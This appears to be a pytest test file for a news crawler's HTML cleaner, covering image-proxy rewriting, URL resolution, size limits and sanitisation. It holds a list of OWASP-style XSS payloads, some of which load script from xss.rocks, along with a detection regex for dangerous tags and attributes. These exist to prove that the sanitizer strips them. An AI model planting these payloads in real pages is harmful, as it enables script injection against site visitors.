"""Body cleaning: lazy images, URLs, furniture, the proxy rewrite, and XSS."""

from __future__ import annotations

import re
from datetime import datetime, timezone

import lxml.html
import pytest

from newscrawler import settings
from newscrawler.pages.body import BodyCleaner
from newscrawler.pages.detail import ArticlePageReader, DetailPage
from newscrawler.sources.registry import load_profiles
from newscrawler.replica.content import seed_body
from tests.articles import PROXY, seed_post_body

PAGE = "http://html2.qktoutiao.com/detail/2021/07/08/1.html"


def parse_detail(html: str, url: str) -> DetailPage:
    """A 趣头条 article page (its body: div.content), as the spider reads it."""
    return ArticlePageReader(load_profiles().get("qutoutiao")).parse(html, url, datetime.now(timezone.utc))


@pytest.fixture(scope="module")
def cleaner() -> BodyCleaner:
    return BodyCleaner(settings.BODY_DROP_SELECTORS, PROXY)


def test_seed_body_byte_for_byte(cleaner: BodyCleaner) -> None:
    body = cleaner.clean(seed_body(), PAGE)
    assert body.html == seed_post_body()
    assert body.image_urls[0] == "http://static.1sapp.com/qupost/img/2021/07/08/73e5bc44a5672dabf307650daa9f1f51.jpeg"
    assert len(body.image_urls) == 4
    assert body.text.startswith("最 新 消 息\n国务院常务会议：\n")
    assert "分享到微信" not in body.text and "share" not in body.html


def test_cleaning_twice_changes_nothing(cleaner: BodyCleaner) -> None:
    once = cleaner.clean(seed_body(), PAGE)
    twice = cleaner.clean(once.html, PAGE)
    assert (twice.html, twice.image_urls, twice.text) == (once.html, once.image_urls, once.text)


@pytest.mark.parametrize(
    ("fragment", "expected_html", "originals"),
    [
        # lazy image, placeholder src replaced in place
        ('<img class="lazy" src="//s.cn/loading.gif" data-src="http://s.cn/a.jpg" data-size="1,2">',
         f'<img src="{PROXY}http://s.cn/a.jpg" data-size="1,2" referrerpolicy="no-referrer">', ["http://s.cn/a.jpg"]),
        # lazy image without src: src takes data-src's place
        ('<img data-src="http://s.cn/a.jpg" data-size="3,4">',
         f'<img src="{PROXY}http://s.cn/a.jpg" data-size="3,4" referrerpolicy="no-referrer">', ["http://s.cn/a.jpg"]),
        ('<img alt="x" data-original="http://s.cn/b.png">',
         f'<img alt="x" src="{PROXY}http://s.cn/b.png" referrerpolicy="no-referrer">', ["http://s.cn/b.png"]),
        # protocol-relative and relative become absolute against the page
        ('<img src="//static.1sapp.com/c.jpg">',
         f'<img src="{PROXY}http://static.1sapp.com/c.jpg" referrerpolicy="no-referrer">', ["http://static.1sapp.com/c.jpg"]),
        ('<img src="/img/d.jpg" width="10">',
         f'<img src="{PROXY}http://html2.qktoutiao.com/img/d.jpg" width="10" referrerpolicy="no-referrer">',
         ["http://html2.qktoutiao.com/img/d.jpg"]),
        ('<img src="e.jpg">',
         f'<img src="{PROXY}http://html2.qktoutiao.com/detail/2021/07/08/e.jpg" referrerpolicy="no-referrer">',
         ["http://html2.qktoutiao.com/detail/2021/07/08/e.jpg"]),
        # already proxied: left alone, original recovered
        (f'<img src="{PROXY}http://s.cn/f.jpg" referrerpolicy="no-referrer">',
         f'<img src="{PROXY}http://s.cn/f.jpg" referrerpolicy="no-referrer">', ["http://s.cn/f.jpg"]),
        # https stays https; an old referrerpolicy moves last
        ('<img referrerpolicy="origin" src="https://s.cn/g.jpg" alt="g">',
         f'<img src="{PROXY}https://s.cn/g.jpg" alt="g" referrerpolicy="no-referrer">', ["https://s.cn/g.jpg"]),
        # a data: URI that only stood in for nothing: the image goes
        ('<p>a<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">b</p>', "<p>ab</p>", []),
        ('<p><img src="data:image/gif;base64,R0lG" data-src="http://s.cn/h.jpg"></p>',
         f'<p><img src="{PROXY}http://s.cn/h.jpg" referrerpolicy="no-referrer"></p>', ["http://s.cn/h.jpg"]),
        ('<img src="javascript:alert(1)">', "", []),
        ("<p>x<img></p>", "<p>x</p>", []),
        # <image> is <img> to a browser and to nh3 (lxml keeps an unknown tag): rewritten alike, and
        # what lxml nested in it follows it
        ('<p>x<image src="http://t.cn/a.png">mid<IMAGE SRC="//t.cn/b.png">end</p>after',
         f'<p>x<img src="{PROXY}http://t.cn/a.png" referrerpolicy="no-referrer">mid'
         f'<img src="{PROXY}http://t.cn/b.png" referrerpolicy="no-referrer">end</p>after',
         ["http://t.cn/a.png", "http://t.cn/b.png"]),
        # the same image twice is downloaded once
        ('<img src="http://s.cn/i.jpg"><img src="http://s.cn/i.jpg">',
         f'<img src="{PROXY}http://s.cn/i.jpg" referrerpolicy="no-referrer">' * 2, ["http://s.cn/i.jpg"]),
    ],
)
def test_images(cleaner: BodyCleaner, fragment: str, expected_html: str, originals: list[str]) -> None:
    body = cleaner.clean(fragment, PAGE)
    assert body.html == expected_html
    assert body.image_urls == originals


def test_an_image_the_rewrite_missed_loses_its_source(cleaner: BodyCleaner, monkeypatch: pytest.MonkeyPatch) -> None:
    """Behind the rewrite: an image only nh3's parser sees (a difference between lxml and
    html5ever, as <image> was) never reaches a reader unproxied; it is counted."""
    monkeypatch.setattr(BodyCleaner, "_fix_images", lambda *args: ([], []))
    body = cleaner.clean('<p>a<img src="http://t.cn/x.png" alt="x">b</p>', PAGE)
    assert body.html == '<p>a<img alt="x">b</p>'
    assert body.dropped == {("image", "parser_difference"): 1}


def test_empty_proxy_turns_rewriting_off() -> None:
    body = BodyCleaner([], "").clean('<img data-src="http://s.cn/a.jpg">', PAGE)
    assert body.html == '<img src="http://s.cn/a.jpg" referrerpolicy="no-referrer">'


@pytest.mark.parametrize(
    ("fragment", "expected"),
    [
        ('<p>keep</p><div class="share-box"><a href="#">分享</a></div><p>this</p>', "<p>keep</p><p>this</p>"),
        ('<p>a</p><div class="ad-box" id="ad_1"><script>x()</script>广告</div>', "<p>a</p>"),
        ("<p>a</p><style>p{}</style><noscript>n</noscript><form><input></form>", "<p>a</p>"),
        ('<p><a href="/other.html">rel</a></p>',
         '<p><a href="http://html2.qktoutiao.com/other.html" rel="noopener noreferrer">rel</a></p>'),
        ("<h2>t</h2><ul><li>1</li></ul><blockquote>q</blockquote><table><tbody><tr><td>c</td></tr></tbody></table>",
         "<h2>t</h2><ul><li>1</li></ul><blockquote>q</blockquote><table><tbody><tr><td>c</td></tr></tbody></table>"),
        ('<figure><img src="http://s.cn/a.jpg"><figcaption>cap</figcaption></figure>',
         f'<figure><img src="{PROXY}http://s.cn/a.jpg" referrerpolicy="no-referrer"><figcaption>cap</figcaption></figure>'),
        ('<section class="x"><span style="color:red">plain</span></section>', "plain"),
        # matched by a tag selector and a class selector at once: dropped once
        ('<p>a</p><script class="ad">x()</script><iframe id="ad_top"></iframe><p>b</p>', "<p>a</p><p>b</p>"),
        ("   \n  ", ""),
    ],
)
def test_furniture_and_allowlist(cleaner: BodyCleaner, fragment: str, expected: str) -> None:
    assert cleaner.clean(fragment, PAGE).html == expected


# The OWASP XSS filter evasion cheat sheet, as much of it as fits a body.
XSS_VECTORS = [
    "<script>alert('XSS')</script>",
    '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC= onmouseover="alert(\'xxs\')">',
    '<IMG onmouseover="alert(\'xxs\')">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
    '<iframe src=http://xss.rocks/scriptlet.html <',
    "<a href=\"javascript:alert('XSS')\">link</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">link</a>",
    "<a href=\"&#106;avascript:alert('XSS')\">link</a>",
    "<a href=\"vbscript:msgbox('XSS')\">link</a>",
    "<a href=\"  javascript:alert(1)\">link</a>",
    '<svg/onload=alert("XSS")>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">CLICKME</math>',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
    '<p style="background-image: url(javascript:alert(1))">bg</p>',
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><TD BACKGROUND="javascript:alert(\'XSS\')">t</TD></tr></TABLE>',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BGSOUND SRC="javascript:alert(\'XSS\');">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle=alert(1)>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<!--<script>alert(1)</script>--><p>after comment</p>',
    '<img src="http://s.cn/ok.jpg" onload="alert(1)" onerror=alert(2)>',
]
DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|svg|math|base|meta|link|style|form|input|frame|applet|bgsound|body)\b"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:text|expression\(|srcdoc|<!--",
    re.IGNORECASE,
)


# Tags and attributes that run code or load what the proxy does not see.
SCRIPTING_TAGS = frozenset({"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
                            "base", "meta", "link", "style", "form", "input", "button", "bgsound"})


def dangers(html: str) -> list[str]:
    """Everything in ``html`` the tests count as dangerous; a cleaned body has none.

    The regex reads the markup as written; lxml reads it as a browser would, with
    entities decoded (``&#106;avascript:``) and attribute names as parsed.
    """
    found = [m.group(0) for m in DANGEROUS.finditer(html)]
    body = lxml.html.document_fromstring(f"<html><body>{html}</body></html>").body
    for element in body.iterdescendants():
        if not isinstance(element.tag, str):
            found.append("comment or processing instruction")
            continue
        if element.tag in SCRIPTING_TAGS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            name, url = name.lower(), "".join(value.split()).lower()
            if name.startswith("on") or name in ("style", "srcdoc", "background", "dynsrc", "lowsrc", "action"):
                found.append(f"{element.tag} {name}")
            elif name == "src" and not url.startswith(PROXY + "http"):
                found.append(f"{element.tag} src={value!r}")
            elif name == "href" and not url.startswith(("http://", "https://")):
                found.append(f"{element.tag} href={value!r}")
    return found


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_each_vector_is_caught_when_left_in(vector: str) -> None:
    """A cleaner that let this vector through would fail test_xss_vector_is_gone."""
    assert dangers(f"<p>before</p>{vector}<p>after</p>")


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_gone(cleaner: BodyCleaner, vector: str) -> None:
    html = cleaner.clean(f"<p>before</p>{vector}<p>after</p>", PAGE).html
    assert dangers(html) == [], html


def test_all_vectors_in_one_body(cleaner: BodyCleaner) -> None:
    html = cleaner.clean("".join(XSS_VECTORS), PAGE).html
    assert dangers(html) == [], html


# --- Bodies past libxml2's default limits: stored whole, or refused, never truncated ---------


@pytest.mark.parametrize(
    ("fragment", "last_words"),
    [
        ("<p>a</p>" + "<span>" * 400 + "<p>结尾</p>", "结尾"),  # 400 unclosed spans: depth 256 by default
        ("<div>" * 1500 + "深处" + "</div>" * 1500 + "<p>结尾</p>", "结尾"),
        ("<p>" + "字" * 11_000_000 + "</p><p>结尾</p>", "结尾"),  # a text run over libxml2's 10 MB
    ],
)
def test_big_bodies_are_cleaned_whole(cleaner: BodyCleaner, fragment: str, last_words: str) -> None:
    body = cleaner.clean(fragment, PAGE)
    assert body.text.endswith(last_words)
    assert body.html.endswith(f"{last_words}</p>") or f"<p>{last_words}</p>" in body.html


def test_body_past_huge_tree_limits_is_refused(cleaner: BodyCleaner) -> None:
    from newscrawler.pages.body import UnparseableBody

    with pytest.raises(UnparseableBody, match="depth"):
        cleaner.clean("<div>" * 3000 + "x" + "</div>" * 3000 + "<p>end</p>", PAGE)


def test_parsed_page_body_is_cleaned_without_a_second_parse(cleaner: BodyCleaner) -> None:
    from newscrawler.pages.body import ParsedBody

    page = parse_detail(f'<html><body><div class="content">{seed_body()}</div></body></html>', PAGE)
    assert isinstance(page.content_html, ParsedBody) and page.content_html.element is not None
    assert cleaner.clean(page.content_html, "http://ignored/").html == seed_post_body()
    assert page.content_html.element is None  # cleaned in place, once


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        ("", "http://final.cn/a/b/pic.jpg"),  # the final response URL, not the listing's
        ('<base href="http://cdn.cn/x/">', "http://cdn.cn/x/pic.jpg"),  # the page's own head base
        ('<base href="javascript:alert(1)//">', "http://final.cn/a/b/pic.jpg"),
    ],
)
def test_relative_urls_resolve_against_the_page(cleaner: BodyCleaner, head: str, expected: str) -> None:

    html = (f"<html><head>{head}</head><body><div class='content'>"
            '<base href="http://evil.example/"><p><img src="pic.jpg"></p></div></body></html>')
    page = parse_detail(html, "http://final.cn/a/b/page.html")
    assert cleaner.clean(page.content_html, "http://listing.cn/other.html").image_urls == [expected]


# --- One bad piece costs only itself: that link (its text stays), that image, never the article ---

BAD_PIECES = [
    # a URL Python's parser refuses: an unclosed IPv6 bracket, a bracket that holds no IP, a port out of range
    ('<p>前<a href="http://[oops">链接文字</a>后</p>', "<p>前链接文字后</p>", [], {("link", "bad_url"): 1}),
    ('<p>a<img src="http://[1.2.3]/a.png">b</p>', "<p>ab</p>", [], {("image", "bad_url"): 1}),
    ('<p><a href="http://h.cn:99999/x">端口</a></p>', "<p>端口</p>", [], {("link", "bad_url"): 1}),
    ('<p><img data-src="http://[x" src="//s.cn/loading.gif"></p>', "<p></p>", [], {("image", "bad_url"): 1}),
    # a host no browser (nor nh3) takes: a space, a caret
    ('<p><a href="http://a b.cn/x">空格</a><img src="http://a^b.cn/p.png"></p>', "<p>空格</p>", [],
     {("link", "bad_url"): 1, ("image", "bad_url"): 1}),
    # a control character (a character reference lxml decodes) in a URL: the link or image goes
    ('<p><a href=" &#14;javascript:alert(6)">点我</a></p>', "<p>点我</p>", [], {("link", "control_char"): 1}),
    ('<p><img src="http://s.cn/a&#1;.png">图</p>', "<p>图</p>", [], {("image", "control_char"): 1}),
    # ...anywhere else it is scrubbed as text.scrub scrubs text: the rest stays as it was
    ('<p title="t&#14;itle">正&#14;文&#xfffe;</p>&#27;尾巴<br>&#2;', '<p title="title">正文</p>尾巴<br>', [], {}),
    ('<p><img src="http://s.cn/a.png" alt="a&#14;b"></p>',
     f'<p><img src="{PROXY}http://s.cn/a.png" alt="ab" referrerpolicy="no-referrer"></p>', ["http://s.cn/a.png"], {}),
    ('<p>a<script>x()</script>&#14;尾</p><div class="share-box">&#3;</div>&#4;b', "<p>a尾</p>b", [], {}),
    # an empty href points at the reader's own page: it goes, the link's text stays (nothing was lost)
    ('<p><a href="">空</a><a href="  ">白</a></p>',
     '<p><a rel="noopener noreferrer">空</a><a rel="noopener noreferrer">白</a></p>', [], {}),
    # the good pieces beside a bad one are kept as they were
    ('<p><a href="http://[oops">坏</a><a href="/ok.html">好</a><img src="http://[::1">'
     '<img src="ok.jpeg"></p>',
     f'<p>坏<a href="http://html2.qktoutiao.com/ok.html" rel="noopener noreferrer">好</a>'
     f'<img src="{PROXY}http://html2.qktoutiao.com/detail/2021/07/08/ok.jpeg" referrerpolicy="no-referrer"></p>',
     ["http://html2.qktoutiao.com/detail/2021/07/08/ok.jpeg"], {("link", "bad_url"): 1, ("image", "bad_url"): 1}),
]


@pytest.mark.parametrize(("fragment", "expected_html", "originals", "dropped"), BAD_PIECES)
def test_one_bad_piece_costs_only_itself(cleaner: BodyCleaner, fragment: str, expected_html: str,
                                         originals: list[str], dropped: dict[tuple[str, str], int]) -> None:
    body = cleaner.clean(fragment, PAGE)
    assert (body.html, body.image_urls, body.dropped) == (expected_html, originals, dropped)


@pytest.mark.parametrize(("fragment", "expected_html", "originals", "dropped"), BAD_PIECES)
def test_one_bad_piece_in_a_parsed_page(cleaner: BodyCleaner, fragment: str, expected_html: str,
                                        originals: list[str], dropped: dict[tuple[str, str], int]) -> None:
    """The same through the spider's parse of the page (the element the item carries)."""

    page = parse_detail(f'<html><body><div class="content">{fragment}</div></body></html>', PAGE)
    body = cleaner.clean(page.content_html, PAGE)
    assert (body.html, body.image_urls, body.dropped) == (expected_html, originals, dropped)


def test_distinct_images_are_kept_in_order_once_each(cleaner: BodyCleaner) -> None:
    fragment = "".join(f'<img src="/{n % 700}.png">' for n in range(1000))
    body = cleaner.clean(fragment, PAGE)
    assert body.image_urls == [f"http://html2.qktoutiao.com/{n}.png" for n in range(700)]
    assert len(body.images) == 1000


def test_a_sources_cleaning_options_reach_the_body_stage() -> None:
    """A profile's article.lazy_images and article.drop travel with its body to the (site-neutral) pipeline."""
    from datetime import datetime, timezone

    from scrapy.utils.test import get_crawler

    from newscrawler.items import Article
    from newscrawler.pages.body import BodyOptions, ParsedBody
    from newscrawler.pipelines.body import BodyPipeline
    from tests.crawling import project_settings_dict

    stage = BodyPipeline.from_crawler(get_crawler(settings_dict=project_settings_dict()))
    fragment = ('<p>正文</p><img src="/grey.gif" data-big="/real.png"><div class="promo">广告</div>'
                '<img data-src="/lazy.png">')
    url = "http://site.example/a/1.html"

    def cleaned(body: str) -> Article:
        article = Article(id="site:1", url=url, title="t", content_html=body, crawled_at=datetime.now(timezone.utc))
        stage.process_item(article)
        return article

    own = cleaned(ParsedBody.from_fragment(fragment, url, BodyOptions(lazy_images=("data-big",), drop=(".promo",))))
    assert own.image_urls == ["http://site.example/real.png"]  # data-src is not this source's: that image is gone
    assert "广告" not in own.content_text and "正文" in own.content_text
    default = cleaned(fragment)  # a plain string: the project's defaults only
    assert default.image_urls == ["http://site.example/lazy.png"]  # a placeholder src beside an unknown attribute
    assert "广告" in default.content_text


# Elements whose content HTML parsers read as raw text, or as markup only where scripts or
# plugins are off: none holds article text. Each goes with its content, in the cleaner (whatever
# BODY_DROP_SELECTORS says) and in sanitize (what replay checks and every export runs again).
RAW_TEXT = [
    "<noembed>&lt;b&gt;嵌入</noembed>",
    "<xmp><b>示例</b></xmp>",
    "<noframes><b>框架</b></noframes>",
    "<noscript><img src=x onerror=alert(1)><p>脚本</p></noscript>",
    "<iframe>x &lt;b&gt;</iframe>",
    "<script>alert(1)</script>",
    "<style>p{}</style>",
]


@pytest.mark.parametrize("element", RAW_TEXT)
@pytest.mark.parametrize("drop", [settings.BODY_DROP_SELECTORS, []], ids=["default-drop", "no-drop"])
def test_raw_text_elements_go_with_their_content(element: str, drop: list[str]) -> None:
    from newscrawler.pages.body import sanitize

    body = BodyCleaner(drop, PROXY).clean(f"<p>前</p>{element}<p>后</p>", PAGE)
    assert (body.html, body.text) == ("<p>前</p><p>后</p>", "前\n后")
    assert sanitize(f"<p>前</p>{element}<p>后</p>") == "<p>前</p><p>后</p>"


def test_plaintext_ends_the_body_with_nothing_escaped() -> None:
    """<plaintext> reads everything after it as text, to the end of the page: dropped with it."""
    from newscrawler.pages.body import sanitize

    body = BodyCleaner([], PROXY).clean("<p>前</p><plaintext><b>x</b>", PAGE)
    assert (body.html, body.text) == ("<p>前</p>", "前")
    assert sanitize("<p>前</p><plaintext><b>x</b>") == "<p>前</p>"


@pytest.mark.parametrize("text", ["\n", "\n\n", "\nx", "x\n"])
def test_a_pre_starting_with_a_line_break_survives_sanitizing_again(text: str) -> None:
    """HTML parsers drop a line break right after <pre>: the serialized body writes one more, so
    the text survives each parse (replay's check, the Hexo export's sanitize, the reader's; the
    reader's is checked in real Hexo by tests/test_reader_properties.py)."""
    from html import escape

    from newscrawler.pages.body import sanitize

    body = f"<p>a</p><pre>\n{escape(text)}</pre>"  # the first line break is the markup's: an HTML5 parser drops it
    # written back with that line break only where the text itself starts with one
    written = body if text.startswith("\n") else f"<p>a</p><pre>{escape(text)}</pre>"
    assert sanitize(body) == written
    assert sanitize(written) == written
